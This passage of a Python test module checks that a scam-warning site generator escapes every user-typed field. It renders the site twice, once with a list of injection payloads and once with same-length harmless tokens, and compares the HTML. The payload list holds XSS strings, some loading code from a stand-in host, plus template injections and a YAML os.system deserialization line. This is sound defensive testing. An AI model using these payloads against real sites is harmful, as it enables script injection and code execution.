"""Whatever somebody types into a field shows as typed, everywhere, and nothing of it ever runs.

Two projects are built from the same real records. In one, every text field of every kind of file holds a payload; over
all records each field of a record meets each payload. In the other the same fields hold harmless tokens of the same
length. Then the two sites must have the same elements and attributes everywhere, and every string of the first must be
the string of the second with tokens turned into payloads.
"""

from __future__ import annotations

import copy
import csv
import html
import io
import json
import re
import unicodedata
import xml.etree.ElementTree as ElementTree
from collections import Counter
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from functools import cache
from html import unescape
from pathlib import Path
from types import UnionType
from typing import Annotated, Any, Final, Union, get_args, get_origin, get_type_hints
from urllib.parse import unquote

import pytest
from playwright.sync_api import Browser, Page
from pydantic import BaseModel, ValidationError

from awareness import search_shards, templating
from awareness.area_records import Area
from awareness.artifacts import finished
from awareness.catalogue import Catalogue
from awareness.commands import Request
from awareness.community import Campaign, Checklist, CommunityModel
from awareness.escaping import Markdown
from awareness.gazetteer import Gazetteer
from awareness.output import write_docs
from awareness.project import Project
from awareness.publish import render_pages
from awareness.reading import RECORD_CLASSES, read_library
from awareness.records import Contact, Guide, Response, Tactic, Tip
from awareness.renderers import render_all
from awareness.report import InvalidRecords
from awareness.single_files import Emergency, Site, SourceItems, Vocabulary
from awareness.tables import harmless
from awareness.values import _text
from awareness.vietnamese import sort_key
from awareness.yaml_source import parse_yaml
from build_warnings import build
from tests.conftest import DAY, ROOT, copy_project
from tests.pages import SHARE_PAGES, html_files, sampled_addresses, watched_page

PAYLOADS: Final = (
    # elements
    "<script>ran()</script>",
    "</script><script>ran()</script>",
    "<ScRiPt src=//xau.example/x.js></sCrIpT>",
    "<img src=x onerror=ran()>",
    "<svg/onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<body onload=ran()>",
    "<details open ontoggle=ran()>",
    "<input autofocus onfocus=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'>",
    "<object data=javascript:ran()></object>",
    "<math href=javascript:ran()>x</math>",
    "<a href=javascript:ran()>bấm</a>",
    "<form action=//xau.example><button>gửi</button>",
    "<base href=//xau.example/>",
    "<link rel=stylesheet href=//xau.example/x.css>",
    "<style>*{display:none}</style>",
    "<b style=position:fixed;inset:0>che</b>",
    "<plaintext><noscript>",
    "<!-- <script>ran()</script> -->",
    '<h2 id="lam-ngay">giả</h2>',
    # leaving where they stand
    '"><script>ran()</script>',
    "'><img src=x onerror=ran()>",
    '" onmouseover="ran()',
    "' autofocus onfocus='ran()",
    "` onload=ran() `",
    '"><meta http-equiv=refresh content=0;url=//xau.example>',
    "</textarea><script>ran()</script>",
    "</title><script>ran()</script>",
    "</style><script>ran()</script>",
    "--><script>ran()</script><!--",
    "]]><script>ran()</script><![CDATA[",
    '"}</script><script>ran()</script>{"',
    '\\"},"url":"javascript:ran()",{\\"',
    "\\u003cscript>ran()</script>",
    # Markdown
    "[bấm](javascript:ran())",
    '[bấm](JaVaScRiPt:ran() "tên")',
    "![ảnh](https://xau.example/x.png)",
    "![x](x){: onerror=ran() }",
    "](javascript:ran()) [",
    "](x){ onclick=ran() } [",
    "<javascript:ran()>",
    "<https://xau.example> <a@xau.example>",
    "[bấm][xau] [xau]: javascript:ran()",
    '[xau]: https://xau.example "x"',
    "{: onclick=ran() style=color:red }",
    "{ onclick=ran() #lam-ngay .cb-bar }",
    "chữ { #lam-ngay onclick=ran() }",
    "**đậm** __đậm__ *nghiêng* `mã` ~~bỏ~~",
    "# đề mục ## khác ##",
    "- ý một * ý hai + ý ba",
    "1. một 2) hai",
    "> trích > trích",
    "```js ran() ``` ~~~",
    "| a | b | |---|---|",
    "[TOC] [^1] *[HTML]: x",
    '!!! note "chú ý"',
    "\\*thoát\\* \\<b\\> \\\\",
    "wzxhzdk:0 klzzwxh:0001 &#2;wzxhzdk:0&#3;",
    # entities
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;img src=x onerror=ran()&#62;",
    "&#x3c;svg onload=ran()&#x3e; &amp;lt; &nbsp;",
    "java&#115;cript&colon;ran() &NewLine;",
    # templates, YAML, front matter
    "{{7*7}} {{ config.site_url }}",
    "{% raw %}{% include 'x' %}{% endraw %}",
    "{#- chú thích -#} {{ page.content }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "!!python/object/apply:os.system [ran]",
    "&neo x: *neo <<: !ENV HOME",
    "--- template: main.html ---",
    "yes: no, key: [a, {b: c}] # hết",
    '%YAML 1.2 ... --- "title": "x"',
    # line ends of other systems: one line in the end
    "x\r\n\r\n<script>ran()</script>",
    "a\n---\ntemplate: main.html\n---\nb",
    "a\n\n## Đề mục { #lam-ngay }\n\nb",
    "Set-Cookie: a=b\r\nX: y\n\n    mã thụt vào",
    # Unicode that the reader lets through
    "＜script＞ran()＜/script＞",
    "<ſcript>ran()</ſcript>",
    "‹script› «ran» ﹤img﹥ ≮b≯",
    "＂ onload＝ran() ＇ ‘x’ “y”",
    "e\u0301\u0323\u0302 chữ ghép, 👨‍👩‍👧".replace("\u200d", ""),
    "javascript：ran() ⁄ ∕ ＆lt；",
)
"""What must show as typed; at most 60 characters, as long as the shortest limit of most fields."""

CONTROL: Final = (
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<svg/onload=ran()>",
    "chữ { #lam-ngay onclick=ran() }",
    "[bấm](javascript:ran())",
    "**đậm** __đậm__ *nghiêng* `mã` ~~bỏ~~",
)
"""Payloads that are known to work where nothing is escaped; none asks another host for anything."""

URL_START: Final = "https://nguon.example/"
URL_PAYLOADS: Final = (
    "https://nguon.example/[a]{:_onclick=ran}*b*_c_`d`",
    "https://nguon.example/?a=1&b=2#c|d~e$f",
    "https://nguon.example/%22%3E%3Cscript%3Eran%28%29",
    "https://nguon.example/{{7*7}}{%_raw_%}{#x#}",
    "https://nguon.example/!!;,=+@:ấn-phẩm",
)
"""Addresses that the schema lets through; https only, without quotes, brackets of HTML or Markdown, spaces."""

MARKER = "window.ran = () => window.testRan(location.pathname + ' ' + new Error().stack);"

# --- what the schema knows about text --------------------------------------------------------------------------

FILES: Final[Mapping[str, type[BaseModel]]] = {
    "tactics": Tactic,
    "responses": Response,
    "tips": Tip,
    "guides": Guide,
    "models": CommunityModel,
    "campaigns": Campaign,
    "checklists": Checklist,
    "contacts": Contact,
    "areas": Area,
    "site.yml": Site,
    "vocabulary.yml": Vocabulary,
    "source-items.yml": SourceItems,
    "emergency.yml": Emergency,
}
_WORDS = {"supports"}
"""Text in the schema, but only words of vocabulary.yml pass (see `test_words_outside_the_vocabulary_are_refused`)."""

NOT_YET_SHOWN: Final = {
    "checklists: symptoms[]",
    "guides: symptoms[]",
    "models: symptoms[]",
    "campaigns: symptoms[]",
    "tactics: also_known_as[]",
    "tactics: easy_read[]",
    "tactics: loudspeaker",
    "tactics: symptoms[]",
    "responses: symptoms[]",
    "tips: symptoms[]",
    "vocabulary.yml: audiences{}.label",
    "vocabulary.yml: audiences{}.note",
    "vocabulary.yml: categories{}.label",
    "vocabulary.yml: categories{}.note",
    "vocabulary.yml: channels{}.label",
    "vocabulary.yml: channels{}.note",
    "vocabulary.yml: checklist_groups{}.note",
    "vocabulary.yml: coaching_to{}.note",
    "vocabulary.yml: area_contact_kinds{}.note",
    "vocabulary.yml: contact_kinds{}.note",
    "vocabulary.yml: item_kinds{}.note",
    "vocabulary.yml: measures{}.note",
    "vocabulary.yml: model_groups{}.note",
    "vocabulary.yml: phases{}.note",
    "vocabulary.yml: quiz_groups{}.label",
    "vocabulary.yml: quiz_groups{}.note",
    "vocabulary.yml: quiz_groups{}.opening",
    "vocabulary.yml: quiz_groups{}.words[]",
    "vocabulary.yml: seasons{}.label",
    "vocabulary.yml: seasons{}.note",
    "vocabulary.yml: severities{}.label",
    "vocabulary.yml: severities{}.note",
}
"""Fields that no output shows so far, or not always; whatever is not named here must show."""


@dataclass(frozen=True)
class Node:
    """One place of the schema.

    kind: "text" (people may type anything), "form" (only what has a certain form passes), "object", "list", "mapping".
    """

    kind: str
    longest: int = 1_000
    children: Mapping[str, Node] = field(default_factory=dict)


_Chooser = Callable[[str, Node], str]


@cache
def schema_of(model: type[BaseModel]) -> Node:
    hints = get_type_hints(model, include_extras=True)
    return Node(
        "object",
        children={
            info.alias or name: _node(hints[name], info.metadata, info.alias or name)
            for name, info in model.model_fields.items()
        },
    )


def _node(hint: Any, metadata: Sequence[Any], name: str) -> Node:
    if get_origin(hint) is Annotated:
        return _node(hint.__origin__, [*hint.__metadata__, *metadata], name)
    if get_origin(hint) in (Union, UnionType):
        return _node(next(option for option in get_args(hint) if option is not type(None)), metadata, name)
    if get_origin(hint) is list:
        return Node("list", children={"[]": _node(get_args(hint)[0], [], name)})
    if get_origin(hint) is Mapping:
        return Node("mapping", children={"{}": _node(get_args(hint)[1], [], name)})
    if isinstance(hint, type) and issubclass(hint, BaseModel):
        return schema_of(hint)
    checks = {getattr(check, "func", None) for check in metadata} - {None}
    has_pattern = any(getattr(check, "pattern", None) for check in metadata)
    if hint is not str or has_pattern or checks != {_text} or name in _WORDS:
        return Node("form")
    longest = min((check.max_length for check in metadata if getattr(check, "max_length", None)), default=1_000)
    return Node("text", longest)


def leaves(node: Node, place: str = "") -> Iterator[tuple[str, str]]:
    """Every value in a kind of file: its place, as ``script[].says``, and whether it is "text" or "form"."""
    if node.kind in ("text", "form"):
        yield place, node.kind
    for name, child in node.children.items():
        yield from leaves(child, _below(place, name))


def _below(place: str, name: str) -> str:
    return f"{place}{name}" if name in ("[]", "{}") or not place else f"{place}.{name}"


def fill(node: Node, value: Any, choose: _Chooser, place: str = "") -> Any:
    """The data of a file with every free text replaced by ``choose(place, node)``."""
    if isinstance(value, dict):
        names = {name: "{}" if node.kind == "mapping" else name for name in value}
        return {
            name: fill(node.children[names[name]], value[name], choose, _below(place, names[name])) for name in value
        }
    if isinstance(value, list):
        return [fill(node.children["[]"], item, choose, f"{place}[]") for item in value]
    return choose(place, node) if node.kind == "text" else value


# --- two projects ----------------------------------------------------------------------------------------------

TOKEN = re.compile(r"([Tt][Zz])([0-9]{5})[Zz]*")


@dataclass
class Typed:
    """What stands where: the text behind each token, and the field that it was typed into."""

    texts: list[str] = field(default_factory=list)
    fields: list[str] = field(default_factory=list)
    seen: set[int] = field(default_factory=set)

    @staticmethod
    def shown(text: str) -> str:
        """What the reader makes of a text."""
        return unicodedata.normalize("NFC", " ".join(text.split()))

    def token(self, text: str, where: str) -> str:
        """A harmless text of the same length, so that whatever depends on lengths stays the same."""
        shown = self.shown(text)
        assert len(shown) >= 7, f"no room for a token: {text}"
        assert not shown.endswith("."), f"templates take a last stop away: {text}"
        assert len(shown.upper()) == len(shown), f"capitals are longer: {text}"
        self.texts.append(shown)
        self.fields.append(where)
        return f"Tz{len(self.texts) - 1:05}".ljust(len(shown), "z")

    def expected(self, harmless: str) -> str:
        """What the site with payloads must show where the harmless one shows ``harmless``."""
        return TOKEN.sub(self._text, harmless)

    def _text(self, match: re.Match[str]) -> str:
        number = int(match[2])
        self.seen.add(number)
        text = self.texts[number]
        if match[1] == "TZ":
            return text.upper()
        return text if match[1] == "Tz" else text[:1].lower() + text[1:]

    @property
    def shown_fields(self) -> set[str]:
        return {self.fields[number] for number in self.seen}


Files = dict[str, dict[str, Any]]
"""File below ``warnings/`` → its data."""


def make_files(payloads: tuple[str, ...] = PAYLOADS, count: int = 28, variant: int = 0) -> tuple[Files, Files, Typed]:
    """The files of the project with payloads, those of the harmless one, and what was typed where.

    count: how many records of each kind; with as many as there are payloads, each field meets each payload.
    variant: which payloads the fields get that a project has only once (name of the site and so on).
    """
    typed = Typed()
    stride = -(-len(payloads) // count)

    def payload_of(place: str, number: int, turn: int, node: Node) -> str:
        fitting = payloads if node.longest >= 60 else tuple(p for p in payloads if len(p) <= node.longest - 4)
        # places begin at different payloads, so that those of one record differ
        payload = fitting[(number * stride + turn + sum(map(ord, place))) % len(fitting)]
        # pages leave the site's name out where it is their title
        return f"Ở {payload}" if place == "name" else payload

    titles = {n: payload_of("title", n, 0, schema_of(Tactic).children["title"]) for n in range(count)}
    # lists are sorted by title, so the tokens must sort like the payloads that they stand for
    in_order = sorted(titles, key=lambda number: sort_key(Typed.shown(titles[number])))
    title_tokens = {number: typed.token(titles[number], "tactics: title") for number in in_order}
    dangerous: Files = {}
    harmless: Files = {}

    def add(name: str, kind: str, data: dict[str, Any], number: int) -> None:
        pairs: list[tuple[str, str]] = []
        turns: dict[str, int] = {}

        def choose(place: str, node: Node) -> str:
            turns[place] = turns.get(place, -1) + 1
            payload = payload_of(place, number, turns[place], node)
            is_title = (kind, place) == ("tactics", "title")
            token = title_tokens[number] if is_title else typed.token(payload, f"{kind}: {place}")
            pairs.append((payload, token))
            return payload

        dangerous[name] = fill(schema_of(FILES[kind]), data, choose)
        answers = iter(pairs)
        harmless[name] = fill(schema_of(FILES[kind]), data, lambda place, node: next(answers)[1])

    for number in range(count):
        made = {
            f"tactics/thu-{number:02}.yml": _tactic(number, count),
            f"responses/viec-{number:02}.yml": _response(number),
            f"tips/tin-{number:02}.yml": _tip(number),
            f"guides/trang-{number:02}.yml": _guide(number),
            f"models/mo-hinh-{number:02}.yml": _model(number),
            f"campaigns/dot-{number:02}.yml": _campaign(number),
            f"checklists/bang-{number:02}.yml": _checklist(number),
            f"areas/{_area_id(number)}.yml": _area(number),
            f"contacts/kenh-{number:02}.yml": _contact(number),
        }
        for name, data in made.items():
            add(name, name.partition("/")[0], data, number)
        url = URL_PAYLOADS[number % len(URL_PAYLOADS)]
        token = typed.token(url.removeprefix(URL_START), "url")
        for files, address in ((dangerous, url), (harmless, URL_START + token)):
            for name in made:
                files[name]["sources"][0]["url"] = address
            files[name]["url"] = address
    add("site.yml", "site.yml", _site(len(payloads)), variant)
    add("vocabulary.yml", "vocabulary.yml", _vocabulary(count), variant)
    add("source-items.yml", "source-items.yml", _source_items(count, len(payloads)), variant)
    add("emergency.yml", "emergency.yml", _emergency(len(payloads)), variant)
    return dangerous, harmless, typed


def _real(name: str) -> dict[str, Any]:
    """A record of the repository, every list cut to what has a shape of its own."""
    data = parse_yaml((ROOT / "warnings" / name).read_bytes()).data
    shortest = {"how_it_works": 3, "red_flags": 5, "do": 3, "symptoms": 8}
    data |= {name: int(data[name]) for name in ("review_after_days", "order") if name in data}
    return {
        key: value[: shortest.get(key, 2)] if isinstance(value, list) else copy.deepcopy(value)
        for key, value in data.items()
    }


@cache
def _real_tactic() -> dict[str, Any]:
    return _real("tactics/gia-danh-cong-an-vien-kiem-sat-toa-an.yml")


def _tactic(number: int, count: int) -> dict[str, Any]:
    source = {"title": "x", "publisher": "x", "date": "2026-01-02", "supports": [_supported(number)]}
    return {
        **copy.deepcopy(_real_tactic()),
        "category": f"nhom-{number:02}",
        "severity": "khan-cap",
        "quick_exit": True,
        "sources": [source | {"url": "https://nguon.example/"}, source],
        "if_happened": {"responses": [f"viec-{number:02}"], "steps": ["x", "x"]},
        "coaching": [{"to": f"nghe-{number:02}", "told": "x", "answer": "x"}],
        "case": {"composite": True, "story": ["x", "x", "x"]},
        "conflicts_with": [{"tactic": f"thu-{(number + 1) % count:02}", "reconcile": ["x", "x"]}],
        "related": [f"thu-{(number + 2) % count:02}"],
        "approved": {"by": "x", "on": "2026-02-03"},
        "translations": [_translation()],
        "published": "2026-01-02",
        "updated": "2026-01-02",
        "reviewed": "2026-11-02",
        "changes": [{"on": "2026-01-02", "what": "x"}],
        "aliases": [f"cu-{number:02}"],
    }


def _translation() -> dict[str, Any]:
    """As many lines as `_real` leaves of ``do`` and ``never``."""
    lines = {"red_flags": ["x"] * 3, "do": ["x"] * 3, "never": ["x"] * 2}
    return {"language": "en", "title": "x", "summary": "x", "what": "x", **lines, "translated": "2026-11-02"}


def _supported(number: int) -> str:
    names = ("title", "summary", "red_flags", "script", "do", "never", "check", "case", "law", "quiz", "status")
    return names[number % len(names)]


@cache
def _real_response() -> dict[str, Any]:
    return _real("responses/da-chuyen-tien.yml")


def _response(number: int) -> dict[str, Any]:
    return {
        **copy.deepcopy(_real_response()),
        "symptoms": ["x"],
        "call": ["kenh-00"],
        "steps": [{"when": f"luc-{number:02}", "do": ["x", "x"]}],
        "keep": ["x", "x"],
        "sources": [{"title": "x", "publisher": "x", "date": "2025", "url": "https://nguon.example/"}],
        "published": "2026-01-02",
        "updated": "2026-01-02",
        "reviewed": "2026-11-02",
        "changes": [{"on": "2026-01-02", "what": "x"}],
    }


@cache
def _real_tip() -> dict[str, Any]:
    return _real("tips/toi-pham-dang-xay-ra.yml")


def _tip(number: int) -> dict[str, Any]:
    return {
        **copy.deepcopy(_real_tip()),
        "tell": ["kenh-00"],
        "say": [{"to": "x", "text": "x"}],
        "sources": [{"title": "x", "publisher": "x", "date": "2025", "url": "https://nguon.example/"}],
        "published": "2026-01-02",
        "updated": "2026-01-02",
        "reviewed": "2026-11-02",
        "changes": [{"on": "2026-01-02", "what": "x"}],
    }


@cache
def _real_guide() -> dict[str, Any]:
    return _real("guides/dang-co-nguoi-goi.yml")


def _guide(number: int) -> dict[str, Any]:
    section = {"heading": "x", "intro": "x", "lines": ["x", "x"]}
    return {
        **copy.deepcopy(_real_guide()),
        "button": "x",
        "call": ["kenh-00"],
        "questions": [{"text": "x", "replies": [{"label": "x", "text": "x", "section": "mot"}] * 2}],
        "sections": [section | {"id": "mot", "numbered": True}, section | {"id": "hai"}],
        "say": [{"to": "x", "text": "x"}],
        "related": [f"thu-{number:02}"],
        **({"kit": _kit(number)} if number % 2 else {}),
        "sources": [
            {"title": "x", "publisher": "x", "date": "2025", "url": "https://nguon.example/", "supports": ["title"]}
        ],
        "published": "2026-01-02",
        "updated": "2026-01-02",
        "reviewed": "2026-11-02",
        "changes": [{"on": "2026-01-02", "what": "x"}],
    }


def _kit(number: int) -> dict[str, Any]:
    """What makes a guide a page that brings other records together."""
    item = {"text": "x", "reason": "x"}
    return {
        "audiences": ["nguoi-cao-tuoi"],
        "first": [f"thu-{number:02}"],
        "models": [f"mo-hinh-{number:02}"],
        "coaching": f"nghe-{number:02}",
        "spoken": True,
        "self_test": 8,
        "quiz": {"unsafe": [item, item], "safe": [item, item]},
        "in_menu": number % 4 == 1,
    }


def _model(number: int) -> dict[str, Any]:
    figure = {"what": "x", "measure": f"dem-{number:02}", "value": 1400, "about": "x", "place": "x", "source": 1}
    figure |= {"summed": True}
    return {
        "title": "x",
        "summary": "x",
        "group": f"mo-{number:02}",
        "what": ["x", "x"],
        "roles": [{"who": "x", "task": "x"}] * 2,
        "start": ["x", "x", "x"],
        "budget": ["x", "x"],
        "cautions": ["x", "x"],
        "promises": ["x", "x"],
        "extends": [{"model": "mo-hinh-00" if number else "mo-hinh-01", "adds": "x"}],
        "figures": [figure | {"as_of": "2020-05"}, figure],
        "questions": ["x", "x"],
        "reviews": [{"on": "2025-06", "by": "x", "result": f"ket-{number:02}", "evidence": ["x", "x"]}],
        "source_errors": ["x", "x"],
        "symptoms": ["x", "x", "x"],
        "related": [f"thu-{number:02}"],
        "sources": [
            {"title": "x", "publisher": "x", "date": "2025", "url": "https://nguon.example/", "supports": ["what"]}
        ]
        * 2,
        "published": "2026-01-02",
        "updated": "2026-01-02",
        "reviewed": "2026-11-02",
        "changes": [{"on": "2026-01-02", "what": "x"}],
        "review_after_days": 365,
        "status": "hien-hanh",
    }


def _campaign(number: int) -> dict[str, Any]:
    return {
        "title": "x",
        "summary": "x",
        "season": "tet",
        "starts": {"calendar": "duong", "month": 11, "day": 1 + number % 20},
        "ends": {"calendar": "am", "month": 1, "day": 15},
        "why": ["x", "x"],
        "tactics": [f"thu-{number:02}", "thu-00" if number else "thu-01"],
        "weeks": [{"week": 1, "do": ["x", "x"]}, {"week": 2, "do": ["x"]}],
        "symptoms": ["x", "x", "x"],
        "sources": [
            {"title": "x", "publisher": "x", "date": "2025", "url": "https://nguon.example/", "supports": ["why"]}
        ]
        * 2,
        "published": "2026-01-02",
        "updated": "2026-01-02",
        "reviewed": "2026-11-02",
        "changes": [{"on": "2026-01-02", "what": "x"}],
        "review_after_days": 365,
        "status": "hien-hanh",
    }


def _checklist(number: int) -> dict[str, Any]:
    item = {"text": "x", "why": "x", "mend": "x"}
    return {
        "title": "x",
        "summary": "x",
        "order": 1,
        "group": f"bang-{number:02}",
        "place": "x",
        "who": "x",
        "when": "x",
        "sections": [
            {"id": "mot", "heading": "x", "items": [item, item], "blanks": ["x"]},
            {"id": "hai", "heading": "x", "blanks": ["x", "x"]},
        ],
        "unmet": ["x", "x"],
        "call": ["kenh-00"],
        "symptoms": ["x", "x", "x"],
        "related": [f"thu-{number:02}"],
        "models": [f"mo-hinh-{number:02}"],
        "sources": [
            {"title": "x", "publisher": "x", "date": "2025", "url": "https://nguon.example/", "supports": ["title"]}
        ],
        "published": "2026-01-02",
        "updated": "2026-01-02",
        "reviewed": "2026-11-02",
        "changes": [{"on": "2026-01-02", "what": "x"}],
        "review_after_days": 365,
        "status": "hien-hanh",
    }


@cache
def _real_contact() -> dict[str, Any]:
    return _real("contacts/156.yml")


def _contact(number: int) -> dict[str, Any]:
    return {
        **copy.deepcopy(_real_contact()),
        "kind": f"loai-{number:02}",
        "number": f"0900 000 {number:03}",
        "sms": {"to": ["156"], "forms": [{"text": "x", "for": "x"}, {"text": "x", "for": "x"}]},
        "url": "https://nguon.example/",
        "cost": "x",
        "hours": "x",
        "operator": "x",
        "notes": ["x", "x"],
        "not_for": ["x"],
        "state_agency": number % 2 == 1,
        "placeholder": number % 7 == 3,
        "sources": [{"title": "x", "publisher": "x", "date": "2025-12", "url": "https://nguon.example/"}] * 2,
        "verified_on": "2026-11-02",
        "order": 1,
    }


def _area_id(number: int) -> str:
    return list(Gazetteer.of_today().by_record_id)[number]


def _area(number: int) -> dict[str, Any]:
    keys = list(Gazetteer.of_today().units)
    # A label with which the title begins is not said twice, so it is one with another payload.
    own = {"kind": f"o-{max(number - 1, 0):02}", "title": "x", "place": "x", "hours": "x", "notes": ["x", "x"]}
    source = {"title": "x", "publisher": "x", "date": "2025", "supports": ["key"], "url": "https://nguon.example/"}
    return {
        "key": keys[number],
        "contacts": [own | {"number": "0000 000 000", "placeholder": True}, own],
        "neighbours": [{"key": keys[number + 1]}],
        "pages": [{"title": "x", "url": "https://trang.example/", "verified_on": "2026-11-02", "how_to_tell": ["x"]}],
        "hours": "x",
        "promises": ["x", "x"],
        "former": [{"name": "x", "ended": "2024-11-01", "became": "x", "document": "x"}],
        "changed": ["x", "x"],
        "sources": [source, source],
        "updated": "2026-11-02",
        "reviewed": "2026-11-02",
        "review_after_days": 180,
        "status": "hien-hanh",
    }


def _site(count: int) -> dict[str, Any]:
    return {
        "name": "x",
        "description": "x",
        "base_url": "https://canhbao.example/",
        "operator": {"name": "x", "about": ["x"] * count},
        "contact": {"label": "x", "value": "x"},
        "adopted_by": [{"name": "x", "on": "2026-03-04", "document": "x"}] * 6,
        "never_asks": ["x"] * 6,
        "promises": ["x"] * count,
        "quick_exit": "https://thoat.example/",
    }


def _vocabulary(count: int) -> dict[str, Any]:
    """A term of its own for every record, so that every label of every kind meets every payload."""
    words = parse_yaml((ROOT / "warnings/vocabulary.yml").read_bytes()).data
    term = {"label": "x", "note": "x"}

    def terms(prefix: str, like: dict[str, Any]) -> dict[str, Any]:
        return {f"{prefix}-{number:02}": dict(like) for number in range(count)}

    call = {"call": ["kenh-00", "kenh-01"], "hazard": False, "hashtags": ["x", "x"]}
    groups = words["quiz_groups"].items()
    return {
        "quiz_groups": {
            name: term | {"opening": "x", "words": ["x"], "channels": group["channels"]} for name, group in groups
        },
        **{name: dict.fromkeys(words[name], term) for name in ("channels", "audiences", "seasons", "severities")},
        "categories": terms("nhom", term | call),
        "phases": terms("luc", term),
        "coaching_to": terms("nghe", term | {"answerer": "x"}),
        "contact_kinds": terms("loai", term),
        "area_contact_kinds": terms("o", term),
        "item_kinds": terms("muc", term),
        "model_groups": terms("mo", term),
        "checklist_groups": terms("bang", term),
        "measures": terms("dem", term | {"unit": "x"}),
        "languages": {
            "en": {
                **dict.fromkeys(
                    ("label", "red_flags", "do", "never", "all", "intro", "note", "rest", "call", "help", "leave"), "x"
                ),
                "calls": {f"kenh-{number:02}": "x" for number in range(count)},
            }
        },
        "review_results": terms("ket", term),
        "fields": dict.fromkeys(words["fields"], "x"),
        "examples": {"title": {"good": "x", "bad": "x", "why": "x"}},
    }


def _source_items(count: int, texts: int) -> dict[str, Any]:
    """A source for each payload; half of the tactics are named, so that the others are listed too."""
    answers = [[f"tactics/thu-{number:02}"] for number in range(0, count, 2)] + [
        [
            "responses/viec-00",
            "tips/tin-00",
            "guides/trang-00",
            "models/mo-hinh-00",
            "campaigns/dot-00",
            "checklists/bang-00",
            "contacts/kenh-00",
            "docs/dung-kiem-tra-bao",
        ]
    ]
    sources = [
        {
            "id": f"nguon-{number:02}",
            "title": "x",
            "publisher": "x",
            "date": "2025-12",
            "items": {
                f"S{number:03}-01": {
                    "kind": f"muc-{number % count:02}",
                    "text": "x",
                    "answered_in": answers[number % len(answers)],
                }
            },
        }
        for number in range(texts)
    ]
    for source, url in zip(sources, URL_PAYLOADS, strict=False):
        source["url"] = url
    return {"sources": sources}


def _emergency(texts: int) -> dict[str, Any]:
    """A field of the report and a way of the triage for each payload."""
    ways = [{"label": "x", "page": "tactics/thu-00"} for _ in range(texts)]
    happenings = [
        {"id": f"chuyen-{number:02}", "label": "x", "question": "x", "ways": ways[:2]} for number in range(texts)
    ]
    fields = [{"label": "x", "hint": "x", "lines": 2} for _ in range(texts)]
    return {"first": "viec-00", "report": fields, "triage": happenings}


def write_project(folder: Path, files: Files) -> Project:
    """A project of these files alone."""
    project = copy_project(folder)
    for path in sorted(project.warnings.rglob("*"), reverse=True):
        # its words are for matching only: no output prints them
        if path.is_file() and path.name != "search-words.yml":
            path.unlink()
    for name, data in files.items():
        (project.warnings / name).parent.mkdir(exist_ok=True)
        (project.warnings / name).write_bytes(yaml_text(data).encode())
    return project


def yaml_text(value: Any, indent: str = "") -> str:
    """YAML with text in single quotes, where only the quote itself needs care."""
    if isinstance(value, dict):
        return "".join(f"\n{indent}{name}: {yaml_text(child, indent + '  ')}" for name, child in value.items())
    if isinstance(value, list):
        return "".join(f"\n{indent}- {yaml_text(child, indent + '  ')}" for child in value) or "[]"
    if isinstance(value, str):
        return "'" + value.replace("'", "''").replace("\n", f"\n{indent}  ") + "'"
    return json.dumps(value)


def build_project(folder: Path, files: Files) -> Project:
    """A built site; the search in one file, however many entries there are, so that the test can see them all."""
    project = write_project(folder, files)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(search_shards, "LARGE", 1_000)
        build(Request(project, DAY, strict=False, pictures=False))
    return project


# --- reading pages in Chromium ---------------------------------------------------------------------------------

WALK = """
(html) => {
  const parsed = new DOMParser().parseFromString(html, "text/html");
  const shape = [], values = [];
  const put = (what, value) => { shape.push(what); values.push(value); };
  const data = (what, value) => {
    if (value !== null && typeof value === "object")
      for (const key of Object.keys(value)) data(`${what}/${key}`, value[key]);
    else put(what, String(value));
  };
  const walk = (node, depth) => {
    if (node.nodeType === Node.TEXT_NODE) { put(`${depth} text in ${node.parentNode.localName}`, node.data); return; }
    if (node.nodeType !== Node.ELEMENT_NODE) { put(`${depth} ${node.nodeName}`, node.data || node.name); return; }
    const tag = node.localName;
    put(`${depth} <${tag}>`, "");
    for (const { name, value } of [...node.attributes].sort((a, b) => (a.name < b.name ? -1 : 1)))
      put(`${depth} ${tag}.${name}`, value);
    if (tag === "style") return;
    if (node.type === "application/ld+json") { data(`${depth} JSON-LD`, JSON.parse(node.textContent)); return; }
    for (const child of node.childNodes) walk(child, depth + 1);
  };
  for (const child of parsed.childNodes) walk(child, 0);
  return [shape, values];
}
"""
_SLUG = re.compile(r"#?[a-z0-9_-]+")
_PLAIN_SLUG = re.compile(r"#?[a-z0-9-]*tz[0-9]{5}z*")
_SLUGS = re.compile(r"\d+ (h1\.id|a\.href)")
"""The anchor of the page title is made by MkDocs from its letters; the skip link leads there."""


CODE_TO_PASTE = "du-lieu/index.html"
"""HTML for other sites, shown as text: what was typed is escaped once more."""
SORTED_BY_TITLE = "tim/index.html"
"""The list from A to Z: the same strings as with harmless titles, in another order."""


def _share_page(shape: list[str], values: list[str]) -> tuple[set[str], list[str]]:
    """Elements and attributes of a share page, and its strings that are to stand as typed: what chats and heads show.

    The rest of it says the record in other words: numbers are read aloud, accents dropped, lines chosen by length.
    """
    markup = {what for what in shape if " text in " not in what}
    fields = [value for what, value in zip(shape, values, strict=True) if what.endswith("text in textarea")]
    head = [
        value for what, value in zip(shape, values, strict=True) if what.endswith(("meta.content", "text in title"))
    ]
    return markup, [*fields[:2], *head]


def _without_versions(file: Path) -> str:
    """A page without what follows from the words on its cards: another title, another card."""
    return re.sub(r"(?<=\.png)\?v=[0-9a-f]{8}", "", file.read_text("utf-8"))


def compare(page: Page, dangerous: Path, harmless: Path, typed: Typed) -> tuple[int, list[str]]:
    """Every HTML file of two sites: how many strings held something typed, and every difference."""
    names = html_files(dangerous)
    assert names == html_files(harmless)
    checked, differences = 0, []
    for name in names:
        shape, values = page.evaluate(WALK, _without_versions(dangerous / name))
        plain_shape, plain_values = page.evaluate(WALK, _without_versions(harmless / name))
        if name.startswith(SHARE_PAGES):
            markup, strings = _share_page(shape, values)
            plain_markup, plain_strings = _share_page(plain_shape, plain_values)
            differences += [f"{name}: {what} is not on the harmless page" for what in markup - plain_markup]
            for value, plain in zip(strings, plain_strings, strict=True):
                checked += value != plain
                if value != typed.expected(plain):
                    differences.append(f"{name}: {value!r}, typed {typed.expected(plain)!r}")
            continue
        if shape != plain_shape:
            at = next((i for i, pair in enumerate(zip(shape, plain_shape, strict=False)) if pair[0] != pair[1]), -1)
            differences.append(
